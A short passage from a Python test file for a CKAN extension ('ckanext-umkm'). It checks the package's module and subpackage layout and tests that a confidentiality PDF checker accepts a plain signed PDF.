    package = os.path.join(ROOT, "ckanext-umkm", "ckanext", "umkm")
    modules = sorted(f for f in os.listdir(package) if f.endswith(".py"))
    assert modules == ["__init__.py", "caller.py", "cli.py", "demo_content.py", "helpers.py", "plugin.py", "wsgi.py"]
    for domain in ("release", "access", "audit", "metadata", "egress", "protection"):
        assert os.path.isfile(os.path.join(package, domain, "__init__.py"))


def test_the_statement_pdf_checker_accepts_a_plain_signed_pdf():
    assert confidentiality.check_pdf(_pdf(pages=2)) is None
